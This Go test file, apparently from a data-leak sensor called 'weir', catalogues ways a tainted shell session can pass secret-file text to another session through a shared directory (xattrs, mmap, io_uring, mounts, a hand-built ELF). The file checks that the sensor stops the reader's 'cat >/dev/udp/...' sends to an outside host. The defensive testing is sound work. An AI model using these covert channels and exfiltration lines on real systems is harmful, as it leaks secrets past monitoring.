//go:build vmguest

package sources

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"weir/internal/control"
	"weir/internal/event"
	"weir/test/vm/guest/rig"
)

const volumesPolicy = `
taint:
  secret_files: [/srv/secret/]
approver: none
`

// passing is one way by which a text comes from one session to another: the first is tainted, writes, and the second sends what it reads.
// Both are shells; F is the file, V its directory, S what the second cannot be seen to share, TEXT the text, SEND what sends standard
// input. Both say so when they are prepared, which is while all is clean, and wait for a line.
type passing struct {
	name           string
	prepare, write string // of the first
	open, read     string // of the second
	none           bool   // it is not tainted, and all arrives: a control
	clean          bool   // the first is not tainted
}

const python = "python3 -c 'import os,sys,mmap,fcntl\nT=b\"TEXT\"\n"

func passings() []passing {
	const plain, cat, file = "printf TEXT >F", "cat F | SEND", bin + "egress file"
	return []passing{
		{name: "open", write: plain, read: cat},
		{name: "append", prepare: ": >F", write: "printf TEXT >>F", read: cat},
		{name: "deeper", write: "mkdir -p V/a/b/c; printf TEXT >V/a/b/c/x", read: "cat V/a/b/c/x | SEND"},
		{name: "descriptor-of-before", prepare: "exec 3>F", write: "printf TEXT >&3", read: cat},
		{name: "directory-of-before", prepare: "cd V", write: "printf TEXT >f", read: cat},
		{name: "mapped-before", prepare: ": >F; truncate -s 4096 F; coproc P { " + python + "f=open(\"F\",\"r+b\"); m=mmap.mmap(f.fileno(),4096); f.close(); print(\"mapped\",flush=True)\nsys.stdin.readline(); m[:len(T)]=T; print(\"done\",flush=True)'; }; read -u ${P[0]} x",
			write: "echo >&${P[1]}; read -u ${P[0]} x", read: "tr -d '\\0' <F | SEND"},
		{name: "rename-over", prepare: "printf TEXT >Sx", write: "mv -f Sx F", open: ": >F", read: cat},
		{name: "link", prepare: "printf TEXT >Sx", write: "ln Sx F", read: cat},
		{name: "symlink", write: "ln -s TEXT F", read: "readlink F | SEND"},
		{name: "followed-link", write: "ln -s Sgot.TEXT F", read: ": >F; ls S | SEND"}, // B136, and those below
		{name: "watched-name", open: "coproc P { " + python + "import ctypes; l=ctypes.CDLL(None); i=l.inotify_init(); l.inotify_add_watch(i,b\"V\",256); print(\"watching\",flush=True)\nsys.stdin.readline(); os.write(1,os.read(i,4096)[16:].rstrip(bytes(1))+b\"\\n\")'; }; read -u ${P[0]} x",
			write: "mkdir V/TEXT", read: "echo >&${P[1]}; read -u ${P[0]} x; printf $x | SEND"},
		{name: "mounted", prepare: "mkdir V/m", write: "mount -t tmpfs none V/m || :; printf TEXT >V/m/f", read: "cat V/m/f | SEND; umount V/m"}, // refused, among the machine's mounts (B172)
		{name: "mounted-before", prepare: "mkdir V/m; mount -t tmpfs none V/m", write: "printf TEXT >V/m/f", read: "cat V/m/f | SEND; umount V/m"},
		{name: "name", write: "mkdir V/TEXT", read: "ls V | SEND"},
		{name: "created-name", write: python + "os.open(\"V/TEXT\",os.O_CREAT)'", read: "ls V | SEND"},
		{name: "node", write: "mkfifo V/TEXT", read: "ls V | SEND"},
		{name: "removed-directory", open: "mkdir V/TEXT V/x.TEXT", write: "rmdir V/x.TEXT", read: "ls V | SEND"},
		{name: "removed-file", open: "touch V/TEXT V/x.TEXT", write: "rm V/x.TEXT", read: "ls V | SEND"},
		{name: "mode", open: "printf TEXT >F", write: "chmod 741 F", read: cat},
		{name: "fifo", prepare: "mkfifo F", write: "printf TEXT >F &", read: cat},
		{name: "program", prepare: "", write: "printf '#!/bin/bash\\nprintf TEXT | SEND' >F; chmod +x F", read: "F"},
		{name: "truncate", prepare: "printf TEXT >F", write: "truncate -s 40 F", read: cat},
		{name: "xattr-name", open: ": >F", write: python + "os.setxattr(\"F\",\"user.\"+T.decode(),T)'", read: python + "os.write(1,os.listxattr(\"F\")[0].encode())' | SEND"},
		{name: "removed-xattr", open: python + "f=open(\"F\",\"w\"); os.setxattr(\"F\",\"user.TEXT\",T); os.setxattr(\"F\",\"user.x\",T)'", write: python + "os.removexattr(\"F\",\"user.x\")'", read: python + "os.write(1,os.listxattr(\"F\")[0].encode())' | SEND"},
		{name: "xattr", open: ": >F", write: python + "os.setxattr(\"F\",\"user.x\",T)'", read: python + "os.write(1,os.getxattr(\"F\",\"user.x\"))' | SEND"},
		{name: "copy_file_range", prepare: "printf TEXT >Sx", write: python + "a=os.open(\"Sx\",0);b=os.open(\"F\",66);os.copy_file_range(a,b,99)'", read: cat},
		{name: "sendfile", prepare: "printf TEXT >Sx", write: python + "a=os.open(\"Sx\",0);b=os.open(\"F\",66);os.sendfile(b,a,0,99)'", read: cat},
		{name: "openat2", write: file + "-openat2 -write -path F -say TEXT", read: cat},
		{name: "splice", write: file + " -write -by splice -path F -say TEXT", read: cat},
		{name: "vmsplice", write: file + " -write -by vmsplice -path F -say TEXT", read: cat},
		{name: "uring", write: file + "-uring -write -by uring -path F -say TEXT", read: cat},
		{name: "uring-polled", write: file + "-uring -sqpoll -write -path F -say TEXT", read: cat},
		{name: "fixed-file-of-before", prepare: "coproc P { " + file + "-fixed -write -wait open -path F -say TEXT; }; read -u ${P[0]} x", write: "echo >&${P[1]}; read -u ${P[0]} x", read: cat},
		{name: "unnamed", write: python + "f=os.open(\"V\",0o20200002,0o600); os.write(f,T); os.link(\"/proc/self/fd/%d\"%f,\"F\",src_dir_fd=0)'", read: cat},
		{name: "executed", prepare: python + "import struct; p=struct.pack; n=len(T)\nc=b\"\\xb8\\1\\0\\0\\0\\xbf\\1\\0\\0\\0\\x48\\x8d\\x35\\x10\\0\\0\\0\\xba\"+p(\"<I\",n)+b\"\\x0f\\5\\xb8\\x3c\\0\\0\\0\\x31\\xff\\x0f\\5\"+T\n" +
			"open(\"Sx\",\"wb\").write(b\"\\x7f\\x45\\x4c\\x46\\2\\1\\1\"+bytes(9)+p(\"<HHIQQQIHHHHHH\",2,62,1,0x400078,64,0,0,64,56,1,0,0,0)+p(\"<IIQQQQQQ\",1,5,0,0x400000,0x400000,120+len(c),120+len(c),4096)+c)'",
			write: "cp Sx F; chmod 711 F", read: "F | SEND"},
		{name: "reader-of-before", prepare: "", open: ": >F; exec 3<F", write: plain, read: "cat <&3 | SEND"},
		{name: "reader-mapped-before", open: ": >F; truncate -s 4096 F; coproc P { " + python + "f=open(\"F\",\"r+b\"); m=mmap.mmap(f.fileno(),4096); f.close(); print(\"mapped\",flush=True)\nsys.stdin.readline(); os.write(1,m[:].rstrip(bytes(1))+b\"\\n\")'; }; read -u ${P[0]} x",
			write: python + "f=open(\"F\",\"r+b\"); f.write(T)'", read: "echo >&${P[1]}; read -u ${P[0]} x; printf $x | SEND"},
		{name: "reader-cd-before", open: "cd V", write: plain, read: "cat f | SEND"},
		{name: "reader-openat2", write: plain, read: file + "-openat2 -path F -to DEST"},
		{name: "reader-mmap", write: plain, read: file + " -by mmap -path F -to DEST"},
		{name: "reader-splice", write: plain, read: file + " -by splice -path F -to DEST"},
		{name: "reader-copy_file_range", write: plain, read: python + "a=os.open(\"F\",0);b=os.open(\"Sx\",66);os.copy_file_range(a,b,99)'; cat Sx | SEND"},
		{name: "reader-link", write: plain, read: "ln F Sx; cat Sx | SEND"},
		{name: "reader-rename", write: plain, read: "mv F Sx; cat Sx | SEND"},
		{name: "reader-uring-polled", write: plain, read: file + "-uring -sqpoll -path F -to DEST"},
		{name: "reader-fixed-file-of-before", open: ": >F; coproc P { " + file + "-fixed -wait open -path F -to DEST; }; read -u ${P[0]} x", write: plain, read: "echo >&${P[1]}; read -u ${P[0]} x"},
		{name: "reader-uring", write: plain, read: file + "-uring -path F -to DEST"},
		{name: "reader-opath", write: plain, read: file + "-opath -path F -to DEST"},
		{name: "reader-handle", write: plain, read: file + "-handle -path F -to DEST"},
		{name: "reader-sendfile", write: plain, read: file + "-sendfile -path F -to DEST"},
		{name: "reader-bind", open: "mkdir -p Sat; mount --bind V Sat", write: plain, read: "cat Sat/f | SEND; umount Sat"},
		{name: "reader-overlay", open: "mkdir -p Sat", write: plain, read: "mount -t overlay -o lowerdir=V:/srv/plain overlay Sat; cat Sat/f | SEND; umount Sat"},
		{name: "writer-overlay", prepare: "mkdir -p Sat V/up V/work Slow; mount -t overlay -o lowerdir=Slow,upperdir=V/up,workdir=V/work overlay Sat", write: "printf TEXT >Sat/f; umount Sat || :", read: "cat V/up/f | SEND"},
		{name: "clean-writer", clean: true, write: plain, read: cat, none: true},
		{name: "closed-before", prepare: plain, write: ":", read: cat}, // it may have stayed open
		{name: "elsewhere", write: "printf TEXT >/srv/plain/f", read: "cat /srv/plain/f | SEND", none: true},
	}
}

// pass runs one attempt between two sessions; between is called once both are prepared.
func (f *fixture) pass(t *testing.T, p passing, writer, reader *rig.Session, dir string, between func()) (text string, port int, mark rig.Marks, out string) {
	t.Helper()
	f.runs++
	text = fmt.Sprintf("text.%d.of.%s.end", f.runs, p.name)
	port = f.world.Port()
	network := "udp"
	if strings.Contains(p.read, "sendfile") {
		network = "tcp"
	}
	f.world.World.Listen(t, network, fmt.Sprintf("[::]:%d", port))
	free := fmt.Sprintf("/srv/free/%s/%d/", strings.Split(t.Name(), "/")[0], f.runs)
	words := strings.NewReplacer("SEND", "cat >/dev/udp/"+rig.World4+"/"+strconv.Itoa(port), "TEXT", text, "DEST", rig.World4+":"+strconv.Itoa(port),
		"F", dir+"/f", "V", dir, "S", free)
	rig.Must(t, "mkdir -p "+free+" "+dir)
	shell := func(s *rig.Session, prepare, act string) *rig.Proc {
		line := words.Replace("set -e; " + prepare + "\necho prepared; read x </dev/fd/9\n" + act + "\necho acted\nread x </dev/fd/9")
		return s.Start(t, "bash", "-c", "exec 9<&0; "+line)
	}
	mark = f.world.Mark(t)
	w := shell(writer, p.prepare, p.write)
	if w.WaitLine("prepared", rig.Late) == "" {
		t.Fatal(w.Wait(t))
	}
	r := shell(reader, p.open, p.read)
	if r.WaitLine("prepared", rig.Late) == "" {
		t.Fatal(r.Wait(t))
	}
	between()
	w.Input(t, "\n")
	if w.WaitLine("acted", rig.Late) == "" {
		t.Fatal(w.Wait(t))
	}
	r.Input(t, "\n")
	r.WaitLine("acted", rig.Late) // or it has failed: what counts is what arrives
	r.Close(t)
	w.Close(t)
	return text, port, mark, w.Wait(t).String() + r.Wait(t).String()
}

// TestVolumesWithoutSensor shows that each attempt gets the text out.
func TestVolumesWithoutSensor(t *testing.T) {
	made(t)
	f := &fixture{world: rig.NewOutside(t)}
	a, b := rig.Bare(t, "writer"), rig.Bare(t, "reader")
	for i, p := range passings() {
		t.Run(p.name, func(t *testing.T) {
			text, _, _, out := f.pass(t, p, a, b, fmt.Sprintf("/srv/bare/%d", i), func() {})
			f.arrives(t, text, out)
		})
	}
}

// TestVolumes makes each attempt between two sessions that work in the same directory.
func TestVolumes(t *testing.T) {
	made(t)
	f := &fixture{world: rig.NewOutside(t)}
	f.sensor = rig.StartSensor(t, volumesPolicy)
	for i, p := range rig.Some(passings(), func(passing) string { return "B34" }) {
		t.Run("B34_"+p.name, func(t *testing.T) {
			dir := fmt.Sprintf("/srv/volumes/%d", i)
			rig.Must(t, "mkdir -p "+dir)
			t.Chdir(dir)
			a, b := f.sensor.Guard(t, "writer"), f.sensor.Guard(t, "reader")
			text, port, mark, out := f.pass(t, p, a, b, dir, func() {
				if !p.clean {
					f.sensor.Taint(t, "writer", "secret")
				}
			})
			if p.none {
				f.arrives(t, text, out)
			} else {
				if strings.Contains(p.read, "sendfile") {
					port = 0 // it was connected before, when it was clean
				}
				f.world.Nothing(t, mark, text, port)
				f.sensor.Event(t, func(e event.Event) bool {
					return e.Change != nil && e.Change.Source == "volume" && (e.Change.Volume == dir || p.name == "reader-handle") && e.Container.Name == "reader"
				})
			}
			if tainted := f.tainted(t, "reader"); tainted == p.none {
				t.Errorf("the reader is tainted: %v: %s", tainted, out)
			}
			a.Close()
			b.Close()
			f.gone(t, "writer", "reader")
			if !p.none { // or there would be too many
				f.sensor.Must(t, "untaint", "--path", dir, "secret", "--why", "it is over")
			}
		})
	}
	t.Run("B34_chain", f.chain)
	t.Run("B34_race", f.race)
	t.Run("B34_by_name", f.byName)
	t.Run("B34_reboot", f.reboot)
	t.Run("B136_within", f.within)
	t.Run("B127_begins_later", f.beginsLater)
}

// within: not the session is tainted, but a cgroup within it that has written before.
func (f *fixture) within(t *testing.T) {
	for _, p := range []passing{
		{name: "opened", prepare: ": >F", write: "printf TEXT >F", read: "cat F | SEND"},
		{name: "descriptor-of-before", prepare: "exec 3>F", write: "printf TEXT >&3", read: "cat F | SEND"},
	} {
		dir := "/srv/within/" + p.name
		rig.Must(t, "mkdir -p "+dir)
		t.Chdir(dir)
		a, b := f.sensor.Guard(t, "writer"), f.sensor.Guard(t, "reader")
		nested := filepath.Join(a.Cgroup, "nested")
		rig.Must(t, "mkdir "+nested)
		p.prepare += "; echo $$ >" + nested + "/cgroup.procs"
		text, port, mark, out := f.pass(t, p, a, b, dir, func() {
			f.sensor.Must(t, "taint", strings.TrimPrefix(nested, "/sys/fs/cgroup"), "secret")
		})
		f.world.Nothing(t, mark, text, port)
		if !f.tainted(t, "reader") {
			t.Errorf("%s: the reader is not tainted: %s", p.name, out)
		}
		a.Close()
		b.Close()
		f.gone(t, "writer", "reader")
	}
}

// beginsLater: what a session wrote, and closed, before the directory was shared, taints a session that begins there while the first one
// runs.
func (f *fixture) beginsLater(t *testing.T) {
	const dir, text = "/srv/later/in", "text.of.later.end"
	rig.Must(t, "mkdir -p "+dir)
	t.Chdir(dir)
	a := f.sensor.Guard(t, "writer", "--taint", "secret")
	a.Run(t, "bash", "-c", "printf "+text+" >f")
	b := f.sensor.Guard(t, "reader")
	if f.tainted(t, "reader") {
		t.Error("the reader is tainted before it has read")
	}
	port := f.world.Port()
	f.world.World.Listen(t, "udp", fmt.Sprintf("[::]:%d", port))
	mark := f.world.Mark(t)
	r := b.Run(t, "bash", "-c", fmt.Sprintf("cat f >/dev/udp/%s/%d", rig.World4, port))
	f.world.Nothing(t, mark, text, port)
	if !f.tainted(t, "reader") {
		t.Errorf("the reader is not tainted: %s", r)
	}
	rig.Eventually(t, "weir why tells of the writer", func() bool { return strings.Contains(f.sensor.Must(t, "why", "reader"), "writer") })
	a.Close()
	b.Close()
	f.gone(t, "writer", "reader")
}

// gone waits until the sensor has forgotten sessions: their names are the next ones'.
func (f *fixture) gone(t *testing.T, names ...string) {
	t.Helper()
	rig.Eventually(t, "the sessions are forgotten", func() bool {
		return !slices.ContainsFunc(f.sensor.Containers(t), func(c control.Container) bool { return slices.Contains(names, c.Name) })
	})
}

// chain: what one session has read taints the third by way of the second, also when all was opened before.
func (f *fixture) chain(t *testing.T) {
	for _, early := range []bool{false, true} {
		rig.Must(t, "rm -rf /srv/chain; mkdir -p /srv/chain/a /srv/chain/b; echo >/srv/chain/a/f; echo >/srv/chain/b/f")
		var all []*rig.Session
		for _, s := range []struct{ name, dir string }{{"first", "/srv/chain/a"}, {"second", "/srv/chain"}, {"third", "/srv/chain/b"}} {
			t.Chdir(s.dir)
			all = append(all, f.sensor.Guard(t, s.name))
		}
		text := fmt.Sprintf("text.of.chain.%v.end", early)
		write(t, "/srv/secret/chain", text)
		place := f.world.Place()
		f.world.World.Listen(t, "udp", fmt.Sprintf("[::]:%d", place.Port))
		steps := []string{"cat /srv/secret/chain", "cat", "cat"}
		files := []struct{ from, to string }{{"", "/srv/chain/a/f"}, {"/srv/chain/a/f", "/srv/chain/b/f"}, {"/srv/chain/b/f", "/dev/udp/" + rig.World4 + "/" + strconv.Itoa(place.Port)}}
		var procs []*rig.Proc
		for i, s := range all {
			line := "exec 9<&0; "
			open := ""
			if files[i].from != "" {
				open += " <" + files[i].from
			}
			open = "exec" + open + " >" + files[i].to + "; "
			if early {
				line += open + "echo ready >&2; read x <&9; " + steps[i] + "; echo done >&2"
			} else {
				line += "echo ready >&2; read x <&9; " + open + steps[i] + "; echo done >&2"
			}
			p := s.Start(t, "bash", "-c", "exec 8>&1; { "+line+"; } 2>&8")
			if p.WaitLine("ready", rig.Late) == "" {
				t.Fatal(p.Wait(t))
			}
			procs = append(procs, p)
		}
		mark := f.world.Mark(t)
		for _, p := range procs {
			p.Input(t, "\n")
			p.WaitLine("done", rig.Late)
			p.Close(t)
			p.Wait(t)
		}
		f.world.Nothing(t, mark, text, place.Port)
		rig.Eventually(t, "the third is tainted", func() bool { return f.tainted(t, "third") })
		why := ""
		defer func() {
			if t.Failed() {
				t.Logf("weir why third: %s", why)
			}
		}()
		rig.Eventually(t, "weir why tells how", func() bool {
			why = f.sensor.Must(t, "why", "third")
			at := 0
			for _, want := range []string{"/srv/chain/b", "second", "/srv/chain/a", "first", "/srv/secret/chain"} {
				i := strings.Index(why[at:], want)
				if i < 0 {
					return false
				}
				at += i
			}
			return true
		})
		for _, s := range all {
			s.Close()
		}
		f.gone(t, "first", "second", "third")
	}
}

// race: a session sends whatever it reads from the volume, as fast as it can, when another one copies a secret there.
func (f *fixture) race(t *testing.T) {
	for i := range rig.Rounds(10) {
		dir := fmt.Sprintf("/srv/race/%d", i)
		rig.Must(t, "mkdir -p "+dir+"; echo old >"+dir+"/f")
		t.Chdir(dir)
		a, b := f.sensor.Guard(t, "writer"), f.sensor.Guard(t, "reader")
		text := fmt.Sprintf("text.%d.of.race.end", i)
		write(t, "/srv/secret/race", text)
		place := f.world.Place()
		f.world.World.Listen(t, "udp", fmt.Sprintf("[::]:%d", place.Port))
		mark := f.world.Mark(t)
		r := b.Start(t, "bash", "-c", fmt.Sprintf("n=0; while [ $n != 3 ]; do cat %s/f >/dev/udp/%s/%d || n=$((n+1)); [ $n != 0 ] || echo sent; done", dir, rig.World4, place.Port))
		if r.WaitLine("sent", rig.Late) == "" {
			t.Fatal(r.Wait(t))
		}
		a.Run(t, "cp", "/srv/secret/race", dir+"/f")
		r.Close(t)
		r.Wait(t)
		f.world.Nothing(t, mark, text, 0)
		if !f.tainted(t, "reader") {
			t.Error("the reader is not tainted")
		}
		a.Close()
		b.Close()
		f.gone(t, "writer", "reader")
	}
}

// byName: a directory that a person taints keeps it over a restart, taints who reads there, and not who writes alone; it is cleared.
func (f *fixture) byName(t *testing.T) {
	dir := "/srv/named"
	write(t, dir+"/f", "text")
	t.Chdir("/")
	old := f.sensor.Guard(t, "old")
	kept := old.Start(t, "bash", "-c", "exec 3<"+dir+"/f; echo open; read x")
	if kept.WaitLine("open", rig.Late) == "" {
		t.Fatal(kept.Wait(t))
	}
	f.sensor.Must(t, "taint", "--path", dir, "secret", "--why", "a test")
	if !f.tainted(t, "old") {
		t.Error("who has a file of it open is not tainted")
	}
	f.sensor.Stop(t)
	f.sensor.Restart(t)
	s, w := f.sensor.Guard(t, "named"), f.sensor.Guard(t, "blind")
	w.Run(t, "bash", "-c", "echo more >>"+dir+"/g")
	if f.tainted(t, "named") || f.tainted(t, "blind") {
		t.Error("tainted before it has read")
	}
	s.Run(t, "cat", dir+"/f")
	if !f.tainted(t, "named") || f.tainted(t, "blind") {
		t.Error("who has read is not tainted, or who has written is")
	}
	if status := f.sensor.Must(t, "status"); !strings.Contains(status, dir+": taint secret") {
		t.Errorf("weir status does not tell of it: %s", status)
	}
	kept.Close(t)
	kept.Wait(t)
	f.sensor.Must(t, "untaint", "--path", dir, "secret", "--why", "it is clean")
	f.sensor.Untaint(t, "named", "secret")
	s.Run(t, "cat", dir+"/f")
	time.Sleep(3 * time.Second) // the sensor looks every two
	if f.tainted(t, "named") {
		t.Error("tainted by what is clean")
	}
	if _, err := os.Stat("/sys/fs/bpf/weir/volumes"); err != nil {
		t.Error(err)
	}
	for _, s := range []*rig.Session{old, s, w} {
		s.Close()
	}
}

// reboot: a directory keeps its taint when nothing is left in the kernel.
func (f *fixture) reboot(t *testing.T) {
	const dir = "/srv/rebooted"
	write(t, dir+"/f", "text")
	t.Chdir("/")
	f.sensor.Must(t, "taint", "--path", dir, "secret", "--why", "a test")
	f.sensor.Stop(t)
	rig.Must(t, "weir detach --force; ! test -e /sys/fs/bpf/weir/volumes")
	f.sensor.Restart(t)
	s := f.sensor.Guard(t, "rebooted")
	s.Run(t, "cat", dir+"/f")
	if !f.tainted(t, "rebooted") {
		t.Error("who has read there is not tainted")
	}
	if why := f.sensor.Must(t, "why", "rebooted"); !strings.Contains(why, "a test") {
		t.Errorf("weir why does not tell of it: %s", why)
	}
	s.Close()
}
